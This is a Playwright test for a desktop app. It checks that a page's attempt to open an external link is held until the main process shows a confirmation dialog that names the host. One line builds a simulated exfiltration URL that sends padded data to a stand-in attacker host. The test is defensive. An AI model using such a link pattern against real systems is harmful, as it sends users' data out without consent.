import { expect, test } from '@playwright/test';
import { startSitrep, type Sitrep } from './support/desktop';

// Issue 10, finding 7: a page's openExternal opens a link main did not issue only after main's own dialog,
// which names the host. Script in a page cannot send data out through the browser without the user.
let sitrep: Sitrep | undefined;
test.afterEach(async () => {
  await sitrep?.quit();
  sitrep?.profile.dispose();
  sitrep = undefined;
});

const openFromPage = (page: import('@playwright/test').Page, url: string) =>
  page.evaluate((u) => (window as unknown as { sitrep: { openExternal(r: { url: string }): Promise<void> } }).sitrep.openExternal({ url: u }), url);

test("a link from a page opens only after main's dialog names its host and the user chooses Open", async () => {
  sitrep = await startSitrep();
  const main = await sitrep.window('index.html');
  const leak = `https://collect.evil.example/?d=${'timeline-'.repeat(300)}`.slice(0, 3_000);

  await openFromPage(main, leak);
  expect(await sitrep.controls.openedExternally()).toEqual([]);
  const [box] = await sitrep.controls.messageBoxes();
  expect(box).toMatchObject({ message: expect.stringContaining('collect.evil.example'), buttons: ['Cancel', 'Open'] });

  await sitrep.controls.answerNextMessageBox(1);
  await openFromPage(main, 'https://grafana.example.com/d/42');
  expect(await sitrep.controls.openedExternally()).toEqual(['https://grafana.example.com/d/42']);
});
